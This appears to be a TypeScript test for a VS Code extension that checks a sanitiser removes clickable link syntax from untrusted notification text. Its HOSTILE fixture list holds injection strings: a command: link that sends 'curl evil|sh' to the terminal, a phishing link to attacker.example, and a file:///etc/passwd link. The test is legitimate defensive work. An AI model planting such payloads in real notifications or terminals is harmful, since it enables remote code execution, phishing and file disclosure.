// Issue 14 ("look for the same kind of hole elsewhere"): VS Code notifications turn Markdown-style
// links into clickable links, command: links included. Error descriptions from a hub and table names
// from records reach notifications, so their text must not be able to form a link.
import assert from 'node:assert/strict';
import { notificationText } from '../../../src/core/text/notificationText';
import { tried } from '../../support/reliabilityLog';

/** The link syntax of VS Code's notifications (vs/base/common/linkedText.ts). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

const HOSTILE = [
  'Unauthorized: [Fix the key](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  'The entity [here](https://attacker.example/phish "Open the portal") was not found',
  'x [a]  (file:///etc/passwd) and [b]\t(command:_workbench.downloadResource)',
  'nested [[x](command:a)](command:b)',
  'line\nbreak [y](command:z)\u202e',
];

describe('notification text from untrusted sources', () => {
  it('holds no link VS Code would make clickable, and keeps the words', () => {
    let linksBefore = 0;
    for (const text of HOSTILE) {
      linksBefore += [...text.replace(/\](\s+)\(/g, '](').matchAll(VSCODE_LINK)].length;
      const safe = notificationText(text);
      assert.deepEqual([...safe.matchAll(VSCODE_LINK)], [], safe);
      assert.ok(!/[\n\u202e]/.test(safe));
      assert.ok(
        safe.includes('command') || safe.includes('https') || safe.includes('file'),
        'the text is kept, only the link syntax is broken',
      );
    }
    assert.ok(linksBefore >= 5, 'the inputs do form links before');
    tried({
      area: 'Trust boundary',
      fault: 'Error and record text with [label](command:...), (https:...) and (file:...) links shown in a notification',
      times: HOSTILE.length,
      outcome: 'no clickable link left; control characters and bidi overrides replaced',
    });
  });

  it('caps the length', () => {
    assert.equal(notificationText('a'.repeat(5000)).length, 1000);
  });
});
